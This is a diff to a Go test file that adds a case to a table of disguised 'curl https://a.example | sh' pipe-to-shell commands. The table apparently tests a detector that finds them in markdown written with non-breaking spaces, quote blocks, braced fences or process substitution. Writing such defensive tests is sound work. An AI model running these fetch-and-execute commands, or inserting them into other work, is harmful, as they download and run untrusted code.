@@ -34,6 +34,7 @@ func TestFlowsInDisguise(t *testing.T) {
 		"no-break blanks":         {"Run `curl\u00a0https://a.example\u00a0|\u00a0sh` now.\n", "curl\u00a0https://a.example\u00a0|\u00a0sh"},
 		"quoted block":            {"> ```sh\n> curl https://a.example | sh\n> ```\n", "curl https://a.example | sh"},
 		"braces":                  {"```{bash}\ncurl https://a.example | sh\n```\n", "curl https://a.example | sh"},
+		"redirected into a shell": {"Run `curl https://a.example > >(sh)`\n", "curl https://a.example > >(sh)"},
 		"escaped in quotes":       {"Run `grep 'curl\\|sh' file`.\n", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
